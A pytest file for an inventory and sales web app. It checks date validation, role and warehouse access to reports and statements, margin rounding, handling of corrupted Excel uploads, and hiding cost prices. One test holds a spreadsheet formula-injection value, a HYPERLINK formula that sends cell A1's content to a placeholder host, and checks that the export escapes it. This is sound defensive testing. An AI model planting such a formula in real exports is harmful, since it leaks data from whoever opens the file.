"""Defects a review of the web UI found, each pinned: absurd dates, statement and report access,
warehouse-restricted reports, Excel formula injection, damaged uploads, exact margin %."""

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from openjxc.catalog.imports import import_items
from openjxc.catalog.models import Item
from openjxc.core.errors import DomainError
from openjxc.ledger.models import Period
from openjxc.reports.trade import details, summary

from .factories import doc, person


@pytest.fixture
def sales(user):
    doc(user, "purchase_receipt", "2026-03-01", [("A001", 10, "5.00")])
    doc(user, "purchase_receipt", "2026-03-01", [("A002", 10, "1.00")], warehouse="WH2")
    return [
        doc(user, "sales_delivery", "2026-03-02", [("A001", 1, "9.00")]),
        doc(user, "sales_delivery", "2026-03-02", [("A002", 1, "3.00")], warehouse="WH2"),
    ]


def test_absurd_dates_are_refused_and_reads_create_no_periods(client, user):
    client.force_login(user)
    from django.utils import timezone

    r = client.get("/reports/sales/details/?from=2026-01-01&to=9999-12-31")
    assert r.status_code == 422
    r = client.get("/reports/sales/details/?from=2026-01-01&to=2999-12-31")
    assert r.status_code == 200
    assert (
        Period.objects.exists()
        and not Period.objects.filter(start__gt=timezone.localdate()).exists()
    )
    assert client.get("/audit/?date_to=9999-12-31&date_from=0001-01-01").status_code == 200
    body = {
        "type": "purchase_receipt",
        "date": "9999-12-31",
        "partner": "S001",
        "warehouse": "WH1",
        "lines": [{"item": "A001", "qty": "1", "price": "1"}],
    }
    with pytest.raises(DomainError) as exc:
        from openjxc.documents.services import create_draft

        create_draft(user, body)
    assert exc.value.code == "invalid" and exc.value.details == {"field": "date"}


def test_statement_page_and_share_links_need_the_partner_area(client, user, api):
    client.force_login(person("库管"))
    assert client.get("/statement/customer/C001/").status_code == 403
    client.force_login(person("销售"))
    assert client.get("/statement/customer/C001/").status_code == 200
    assert client.get("/statement/supplier/S001/").status_code == 403
    link = api.post("/partners/C001/statement/share", {"days": 3})
    assert link.status_code == 201
    from tests.factories import fetch

    assert fetch("SELECT action, object FROM audit_auditentry ORDER BY id DESC LIMIT 1") == [
        ("share_statement", "C001")
    ]


def test_sales_reports_keep_to_the_users_warehouses(client, sales):
    clerk = person("销售", warehouses=["WH2"])
    client.force_login(clerk)
    html = client.get("/reports/sales/details/?from=2026-03-01&to=2026-03-31").content.decode()
    assert sales[1] in html and sales[0] not in html
    rows = details(
        "sales",
        *[__import__("datetime").date(2026, 3, d) for d in (1, 31)],
        warehouse_ids={clerk.warehouse_access.get().warehouse_id},
    )["items"]
    assert [r["document"] for r in rows] == [sales[1]]


def test_margin_percent_is_exact_and_the_same_in_rows_and_totals(user):
    import datetime as dt

    doc(user, "purchase_receipt", "2026-03-01", [("A003", 100, "1.9797")])
    doc(user, "sales_delivery", "2026-03-02", [("A003", 100, "2.00")])  # cost 197.97, margin 2.03
    data = summary("sales", "item", dt.date(2026, 3, 1), dt.date(2026, 3, 31))
    assert data["items"][0]["margin"] == "2.03"
    assert data["items"][0]["margin_pct"] == data["totals"]["margin_pct"] == "1.02"  # 1.015 half up


def test_excel_never_turns_text_into_a_formula(db):
    from openjxc.reports.excel import xlsx_response

    name = '=HYPERLINK("http://x/?"&A1,"点击")'
    r = xlsx_response(
        "x.xlsx",
        "x",
        [("item_name", "名称"), ("qty", "数量")],
        [{"item_name": name, "qty": "-3"}, {"item_name": "+1 杯", "qty": "2.5"}],
    )
    ws = load_workbook(io.BytesIO(r.content)).active
    assert [[c.value for c in row] for row in ws.iter_rows(min_row=4)] == [
        ["'" + name, -3],
        ["'+1 杯", 2.5],
    ]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_a_damaged_upload_is_a_clear_error_not_a_crash(user):
    wb = Workbook()
    wb.active.append(["商品编码*", "商品名称*", "单位*"])
    wb.active.append(["X1", "甲", "个"])
    buf = io.BytesIO()
    wb.save(buf)
    # truncate the sheet's XML inside an otherwise valid archive
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in src.infolist():
            data = src.read(info.filename)
            z.writestr(
                info, data[: len(data) // 2] if info.filename.endswith("sheet1.xml") else data
            )
    with pytest.raises(DomainError) as exc:
        import_items(user, out.getvalue(), commit=False)
    assert exc.value.code == "invalid_file"
    assert not Item.objects.filter(code="X1").exists()


def test_who_may_not_see_purchase_prices_may_not_set_them(user):
    from openjxc.catalog.services import create_item

    keeper = person("库管")
    item = create_item(
        keeper, {"code": "K1", "name": "库管建的", "unit": "个", "purchase_price": "9.99"}
    )
    assert Item.objects.get(code="K1").purchase_price is None and item["purchase_price"] is None


def test_purchase_prices_on_documents_are_hidden_from_who_may_not_see_cost(client, user):
    number = doc(user, "purchase_receipt", "2026-03-01", [("A001", 10, "5.00")])
    keeper = person("库管")
    client.force_login(keeper)
    html = client.get(f"/doc/{number}/").content.decode()
    assert "5.00" not in html and "50.00" not in html and "56.50" not in html and number in html
    assert "56.50" not in client.get("/documents/purchase_receipt/").content.decode()
    assert "56.50" not in client.get(f"/doc/{number}/print/").content.decode()
    from openjxc.users.services import issue_token

    token = issue_token("u-库管", "pw-123456")
    data = client.get(f"/api/v1/documents/{number}", HTTP_AUTHORIZATION=f"Bearer {token}").json()
    assert (
        data["amount"] is None
        and data["lines"][0]["price"] is None
        and data["lines"][0]["qty"] == "10"
    )
    client.force_login(user)
    assert "56.50" in client.get(f"/doc/{number}/").content.decode()
